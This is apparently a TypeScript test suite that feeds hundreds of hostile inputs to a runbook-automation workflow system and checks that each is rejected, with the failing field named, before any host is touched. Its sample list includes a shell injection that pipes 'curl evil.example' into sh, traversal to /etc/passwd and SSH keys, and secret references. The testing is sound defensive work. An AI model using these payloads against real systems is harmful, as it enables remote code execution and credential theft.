// A careless or hostile colleague with namespace access writes a run's input (TRUST.md): hundreds of
// hostile inputs, generated from the examples of every runbook, started as real runs on the
// suite's dev server. Every one must fail as InvalidInput (or UnknownCluster) naming the field,
// before any activity touches a host or an API: the fake cluster records no call at all, and the
// resolution of the cluster (a read of the worker's own inventory) runs only for the checks that
// need it.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { activityInfo } from '@temporalio/activity';
import { describe, expect, it } from 'vitest';
import { MOVED_TO_INVENTORY } from '../../src/model/inputs';
import { RUNBOOK_NAMES, type RunbookName } from '../../src/model/runbooks';
import { formatPath, hasUnsafeCharacters } from '../../src/model/validate';
import { fakeCluster, runFailure, scenario } from '../support/fake-cluster';

/** Well-formed signed fields of a pre-approval: the refusal must be about who, not how it is written. */
const SIGNED_FIELDS = {
  plan: 'ab'.repeat(32),
  at: '2026-11-30T10:00:00.000Z',
  validUntil: '2026-12-07T10:00:00.000Z',
  signature: '-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n-----END SSH SIGNATURE-----\n',
};

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

interface HostileCase {
  runbook: RunbookName;
  what: string;
  input: unknown;
  /** The field the refusal must name, as `formatPath` writes it. */
  field: string;
  /** Refused by the schema (nothing resolved) or after resolving the cluster. */
  at: 'schema' | 'resolve';
  type?: string;
  /** Arguments after the input (a start may carry more than one). */
  extraArgs?: unknown[];
}

const EXAMPLES = path.join(__dirname, '../../examples');
const runbookOf = (file: string) =>
  file.replace(/\.json$/, '').replace(/-(\w)/g, (_, c: string) => c.toUpperCase()) as RunbookName;
const examples = readdirSync(EXAMPLES)
  .filter((f) => f.endsWith('.json'))
  .map((f) => ({
    runbook: runbookOf(f),
    input: JSON.parse(readFileSync(path.join(EXAMPLES, f), 'utf8')) as Record<string, Json>,
  }));

/** Values no field of any input accepts: traversal, absolute paths, shell, URLs, secret refs, control and huge text. */
const HOSTILE_STRINGS: [string, string][] = [
  ['path traversal', '../../../../etc/passwd'],
  ['a root path', '/root/.ssh/authorized_keys'],
  ['shell', '$(curl evil.example|sh)'],
  ['a URL with credentials', 'https://admin:hunter2@198.51.100.7:443/'],
  ['an env secret reference', 'env:AWS_SECRET_ACCESS_KEY'],
  ['a file secret reference', 'file:/proc/self/environ'],
  ['terminal control characters', '\u001b]0;pwned\u0007\u001b[2J'],
  ['a huge string', 'x'.repeat(100_000)],
];

/** Every string leaf of an input, as a path (the cluster and $schema apart). */
function stringPaths(value: Json, at: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string')
    return at.length === 1 && ['$schema', 'cluster'].includes(String(at[0])) ? [] : [at];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringPaths(v, [...at, i]));
  if (value && typeof value === 'object')
    return Object.entries(value).flatMap(([k, v]) => stringPaths(v, [...at, k]));
  return [];
}

function setAt(input: Record<string, Json>, at: (string | number)[], value: Json): Record<string, Json> {
  const copy = structuredClone(input);
  let node: Json = copy;
  for (const key of at.slice(0, -1)) node = (node as Record<string, Json>)[key as string] as Json;
  (node as Record<string, Json>)[at[at.length - 1] as string] = value;
  return copy;
}

function cases(): HostileCase[] {
  const out: HostileCase[] = [];
  for (const { runbook, input } of examples) {
    const add = (
      what: string,
      hostile: unknown,
      field: string,
      at: HostileCase['at'] = 'schema',
      type?: string,
    ) => out.push({ runbook, what, input: hostile, field, at, ...(type ? { type } : {}) });
    // The cluster as anything but the name of an inventory cluster.
    const inline = {
      name: 'lab',
      api: {
        baseUrl: 'https://198.51.100.7:443',
        passwordRef: 'env:WABA_ADMIN_PASSWORD',
        tls: { pinnedSha256: 'AB'.repeat(32) },
      },
    };
    for (const [what, cluster] of [
      ['an inline cluster spec redirecting the admin password', inline],
      ['a path for a cluster', '../lab'],
      ['shell in the cluster name', 'lab;reboot'],
      ['an upper-case cluster', 'LAB'],
      ['a NUL in the cluster', 'lab\u0000'],
      ['a number for a cluster', 7],
      ['null for a cluster', null],
      ['a list for a cluster', ['lab']],
    ] as [string, unknown][])
      add(what, { ...input, cluster }, 'cluster');
    add(
      'a cluster the inventory lacks',
      { ...input, cluster: 'prodd' },
      'cluster',
      'resolve',
      'UnknownCluster',
    );
    // Fields that moved to the inventory, misspellings, and keys nested where they do not belong.
    for (const key of Object.keys(MOVED_TO_INVENTORY))
      add(`the moved field ${key}`, { ...input, [key]: 'x' }, key);
    for (const key of ['clusterName', 'requestedby', 'TOVERSION', '__proto__x', 'constructor'])
      add(`the unknown key ${key}`, { ...input, [key]: true }, key);
    // Every string field with every hostile value.
    for (const at of stringPaths(input))
      for (const [what, value] of HOSTILE_STRINGS)
        add(`${what} in ${formatPath(at)}`, setAt(input, at, value), formatPath(at));
  }
  return out;
}

/** Hand-written cases on the fields each runbook has: durations, counts, hosts, versions, policy bounds. */
function specificCases(): HostileCase[] {
  const ex = (r: RunbookName) => examples.find((e) => e.runbook === r)?.input as Record<string, Json>;
  const c = (
    runbook: RunbookName,
    what: string,
    patch: Record<string, unknown>,
    field: string,
    at: HostileCase['at'] = 'schema',
  ) => ({
    runbook,
    what,
    input: { ...ex(runbook), ...patch },
    field,
    at,
  });
  const durations = ['0s', '0ms', '1e20d', '100000000000000000000d', '-5m', '5 minutes', '', ' 30s'];
  const out: HostileCase[] = [];
  for (const d of durations) {
    out.push(c('haSetup', `code timeout ${d}`, { timeouts: { code: d } }, 'timeouts.code'));
    out.push(c('upgrade', `health timeout ${d}`, { timeouts: { health: d } }, 'timeouts.health'));
    out.push(c('dbUpgrade', `job timeout ${d}`, { timeouts: { job: d } }, 'timeouts.job'));
    out.push(c('haDrill', `takeover SLO ${d}`, { takeoverSlo: d }, 'takeoverSlo'));
    out.push(c('mediaChown', `resumeAfter ${d}`, { resumeAfter: d }, 'resumeAfter'));
    out.push(c('uninstall', `approval timeout ${d}`, { approvalTimeout: d }, 'approvalTimeout'));
  }
  // Free text shown to approvers and in terminals (the plan's window note, `status`): one line, no
  // control character or bidi override anywhere in it; $schema, which no run reads, likewise.
  const unsafe = [
    '\u0000',
    '\u0007',
    '\t',
    '\n',
    '\r',
    '\u001b[2K',
    '\u007f',
    '\u0085',
    '\u009b',
    '\u202e',
    '\u2066',
  ];
  for (const u of unsafe) {
    for (const text of [`${u}CAB-1234 approved`, `CAB-1234${u} approved`, `CAB-1234 approved${u}`])
      out.push(
        c('upgrade', `force.reason ${JSON.stringify(text)}`, { force: { reason: text } }, 'force.reason'),
      );
    const schema = `./schemas/${u}x.schema.json`;
    for (const runbook of RUNBOOK_NAMES)
      out.push(c(runbook, `$schema ${JSON.stringify(schema)}`, { $schema: schema }, '$schema'));
  }
  for (const since of [
    '0s',
    '0h',
    '2161h',
    '129601m',
    '7776001s',
    '9999999h',
    '2026-13-01T00:00Z',
    '2026-02-30T03:00:00Z',
    '2026-11-30T24:00',
    '2026-11-30T03:60',
    '2026-11-30T03:00:60Z',
    '1999-12-31T23:59:59Z',
    '9999-99-99T99:99:99.999999999',
  ])
    out.push(c('collectLogs', `since ${since}`, { since }, 'since'));
  // Arguments after the input: none for any runbook; mediaChown's count of runs, bounded.
  for (const runbook of RUNBOOK_NAMES)
    for (const extraArgs of [[2], ['x'], [null, null], [{ cluster: 'prod' }]]) {
      if (runbook === 'mediaChown' && extraArgs[0] === 2) continue; // its count of runs: below
      out.push({
        ...c(runbook, `extra arguments ${JSON.stringify(extraArgs)}`, {}, 'arguments'),
        extraArgs,
      });
    }
  for (const extraArgs of [[0], [-1], [1.5], [1e9], ['2'], [null], [1, 2]])
    out.push({ ...c('mediaChown', `runs ${JSON.stringify(extraArgs)}`, {}, 'arguments'), extraArgs });
  for (const n of [0, -1, 1.5, 1e9, Number.MAX_SAFE_INTEGER])
    out.push(c('upgrade', `maxUnavailable ${n}`, { maxUnavailable: n }, 'maxUnavailable'));
  for (const n of [0, 3, 64, -2]) out.push(c('multiconnectExpand', `shards ${n}`, { shards: n }, 'shards'));
  for (const v of ['yes', 'true', 1, 0, null, [], { accept: true }])
    out.push(
      c(
        'multiconnectExpand',
        `acceptNoStandby ${JSON.stringify(v)}`,
        { acceptNoStandby: v },
        'acceptNoStandby',
      ),
    );
  for (const n of [0, 1023, 1e12])
    out.push(c('collectLogs', `maxBytesPerService ${n}`, { maxBytesPerService: n }, 'maxBytesPerService'));
  out.push(
    c('multiconnectExpand', 'a duplicated added host', { addCoreapps: ['core3', 'core3'] }, 'addCoreapps[1]'),
    c(
      'multiconnectExpand',
      'a member host added again',
      { addCoreapps: ['core1'] },
      'addCoreapps[0]',
      'resolve',
    ),
    c(
      'multiconnectExpand',
      'a host the inventory lacks',
      { addCoreapps: ['core9'] },
      'addCoreapps[0]',
      'resolve',
    ),
    c(
      'multiconnectExpand',
      'no standby Coreapp left (2 shards, no Coreapp added)',
      { shards: 2, addCoreapps: [] },
      'shards',
      'resolve',
    ),
    c(
      'multiconnectExpand',
      'no standby Coreapp left, acceptNoStandby false',
      { shards: 2, addCoreapps: [], acceptNoStandby: false },
      'shards',
      'resolve',
    ),
    c(
      'multiconnectExpand',
      'more shards than Coreapps',
      { shards: 8, addCoreapps: ['core3'] },
      'shards',
      'resolve',
    ),
    c('upgrade', 'a downgrade', { toVersion: '2.23.3' }, 'toVersion', 'resolve'),
    c('upgrade', 'the same version', { toVersion: '2.23.4' }, 'toVersion', 'resolve'),
    c('upgrade', 'more unavailable than hosts', { maxUnavailable: 6 }, 'maxUnavailable', 'resolve'),
    c(
      'upgrade',
      'an approval timeout above the policy',
      { approvalTimeout: '30d' },
      'approvalTimeout',
      'resolve',
    ),
    c(
      'upgrade',
      'a pre-approval by a stranger',
      { preApproved: [{ ...SIGNED_FIELDS, gate: 'upgrade', by: 'mallory', reason: 'CAB-1' }] },
      'preApproved',
    ),
    c(
      'upgrade',
      'a pre-approval by the requester',
      { preApproved: [{ ...SIGNED_FIELDS, gate: 'upgrade', by: 'carol', reason: 'CAB-1' }] },
      'preApproved',
    ),
    c(
      'upgrade',
      'a window in year 9999',
      { window: { days: ['sun'], start: '03:00', end: '05:00', timeZone: 'Europe/Rome', until: '9999' } },
      'window.until',
    ),
    c(
      'upgrade',
      'a window in no time zone',
      { window: { days: ['sun'], start: '03:00', end: '05:00', timeZone: '../../etc/localtime' } },
      'window.timeZone',
    ),
    c(
      'upgrade',
      'a window of repeated days',
      { window: { days: ['sun', 'sun'], start: '03:00', end: '05:00', timeZone: 'UTC' } },
      'window.days',
    ),
    c('dbUpgrade', 'a database downgrade', { toVersion: '2.23.3' }, 'toVersion', 'resolve'),
    c('dbUpgrade', 'the job on a spare host', { host: 'core3' }, 'host', 'resolve'),
    c('dbUpgrade', 'the job on a host the inventory lacks', { host: 'db9' }, 'host', 'resolve'),
    c('haDrill', 'a drill on a spare host', { target: 'core3' }, 'target', 'resolve'),
    c('haDrill', 'a drill on a Webapp', { target: 'web1' }, 'target', 'resolve'),
    c('mediaChown', 'a window opening in year 9999', { notBefore: '9999-12-31T00:00:00Z' }, 'notBefore'),
    c('mediaChown', 'a window ending in year 9999', { windowEnd: '9999-12-31T00:00:00Z' }, 'windowEnd'),
    c(
      'uninstall',
      'a wait for the cluster of 1e20 days',
      { whenBusy: 'wait', lockWait: '1e20d' },
      'lockWait',
    ),
    c('upgrade', 'a wait for the cluster of a year', { whenBusy: 'wait', lockWait: '365d' }, 'lockWait'),
    c('haSetup', 'a lockWait on a run that refuses', { lockWait: '1h' }, 'lockWait'),
    c('dbUpgrade', 'a whenBusy of its own', { whenBusy: 'force' }, 'whenBusy'),
    c(
      'upgrade',
      'a window that never closes',
      { window: { days: ['sun'], start: '03:00', end: '05:00', timeZone: 'Europe/Rome', onClose: 'never' } },
      'window.onClose',
    ),
    c(
      'upgrade',
      'a window in a zone that is a path',
      { window: { days: ['sun'], start: '03:00', end: '05:00', timeZone: '../../etc/passwd' } },
      'window.timeZone',
    ),
    c(
      'mediaChown',
      'a window beside windowEnd',
      {
        window: { days: ['sun'], start: '03:00', end: '05:00', timeZone: 'Europe/Rome' },
        windowEnd: '2026-12-06T05:00:00Z',
      },
      'windowEnd',
    ),
    c(
      'mediaChown',
      'a window with a 25th hour',
      { window: { days: ['sun'], start: '24:30', end: '05:00', timeZone: 'UTC' } },
      'window.start',
    ),
    c('collectLogs', 'a service listed twice', { services: ['waweb', 'waweb'] }, 'services'),
    c('collectLogs', 'a since that climbs', { since: '../../../etc' }, 'since'),
  );
  // The settings restore: exactly one backup choice, each written as what it is.
  const sha = 'ab'.repeat(32);
  for (const [what, backup] of [
    ['both a run id and a checksum', { runId: '0b4c1f2e', sha256: sha }],
    ['no backup choice', {}],
    ['a path for a backup', '/var/lib/waba/artifacts/lab/settings-backup-x.json'],
    ['a file name for a backup', { file: 'settings-backup-x.json' }],
  ] as [string, unknown][])
    out.push(c('settingsRestore', what, { backup }, 'backup'));
  for (const [what, runId] of [
    ['a short run id', '0b4c'],
    ['a run id with a glob', '0b4c1f2e*'],
    ['a run id that climbs', '../0b4c1f2e'],
    ['an upper-case run id', '0B4C1F2E'],
  ] as [string, string][])
    out.push(c('settingsRestore', what, { backup: { runId } }, 'backup.runId'));
  for (const [what, sha256] of [
    ['a short checksum', 'ab'.repeat(31)],
    ['an upper-case checksum', 'AB'.repeat(32)],
    ['a checksum with a prefix', `sha256:${sha}`],
  ] as [string, string][])
    out.push(c('settingsRestore', what, { backup: { sha256 } }, 'backup.sha256'));
  for (const d of durations)
    out.push(c('settingsRestore', `health timeout ${d}`, { timeouts: { health: d } }, 'timeouts.health'));
  out.push(
    c('settingsRestore', 'restartCoreapps as text', { restartCoreapps: 'yes' }, 'restartCoreapps'),
    c('upgrade', 'a rollback mode of its own', { rollback: 'restore' }, 'rollback'),
    c('upgrade', 'a rollback object with an unknown mode', { rollback: { mode: 'never' } }, 'rollback'),
    c(
      'upgrade',
      'restoreSettings as text',
      { rollback: { mode: 'auto', restoreSettings: 'yes' } },
      'rollback',
    ),
    c(
      'upgrade',
      'a rollback naming a backup file',
      { rollback: { mode: 'auto', restoreSettings: true, backup: '/tmp/x.json' } },
      'rollback.backup',
    ),
  );
  return out;
}

async function inBatches<T, R>(items: T[], size: number, fn: (item: T) => Promise<R>): Promise<R[]> {
  const out: R[] = [];
  for (let i = 0; i < items.length; i += size)
    out.push(...(await Promise.all(items.slice(i, i + size).map(fn))));
  return out;
}

describe('hostile inputs', () => {
  const all = [...cases(), ...specificCases()];

  it('the corpus covers every runbook with hundreds of cases', () => {
    expect(all.length).toBeGreaterThanOrEqual(300);
    expect(new Set(all.map((c) => c.runbook)).size).toBe(RUNBOOK_NAMES.length);
  });

  it(
    'every hostile input is refused naming its field before any activity touches a host or an API',
    { timeout: 600_000 },
    async () => {
      const fake = fakeCluster();
      const resolvedBy = new Map<string, number>();
      const resolve = fake.activities.resolveCluster;
      await scenario(
        fake,
        async ({ start }) => {
          const outcomes = await inBatches(all, 25, async (c) => {
            const handle = await start(c.runbook, 'hostile', c.input, { extraArgs: c.extraArgs });
            const { failure } = await runFailure(handle, 60_000);
            return { c, id: handle.workflowId, failure };
          });
          const wrong: string[] = [];
          for (const { c, id, failure } of outcomes) {
            const why = `${c.runbook}: ${c.what}`;
            const resolved = resolvedBy.get(id) ?? 0;
            const type = c.type ?? 'InvalidInput';
            if (failure.type !== type)
              wrong.push(`${why}: ${failure.type} (${failure.message.slice(0, 200)})`);
            else if (
              !failure.message.includes(`${c.field}:`) &&
              !(type === 'UnknownCluster' && failure.message.includes('cluster "prodd"'))
            )
              wrong.push(`${why}: does not name ${c.field}: ${failure.message.slice(0, 300)}`);
            else if (!failure.nonRetryable) wrong.push(`${why}: retryable`);
            else if (c.at === 'schema' && resolved !== 0)
              wrong.push(`${why}: the cluster was resolved (${resolved})`);
            else if (c.at === 'resolve' && resolved !== 1) wrong.push(`${why}: resolved ${resolved} times`);
            else if (failure.message.length > 3000 || hasUnsafeCharacters(failure.message))
              wrong.push(`${why}: an unbounded or uncleaned message`);
          }
          expect(wrong).toEqual([]);
        },
        {
          async resolveCluster(a) {
            const id = activityInfo().workflowExecution?.workflowId ?? '';
            resolvedBy.set(id, (resolvedBy.get(id) ?? 0) + 1);
            return resolve(a);
          },
        },
      );
      // Nothing touched a host or an API in any of them: no command, no upload, no call, no key check.
      expect(fake.calls).toEqual([]);
      expect(fake.hostKeyChecks).toEqual([]);
    },
  );
});
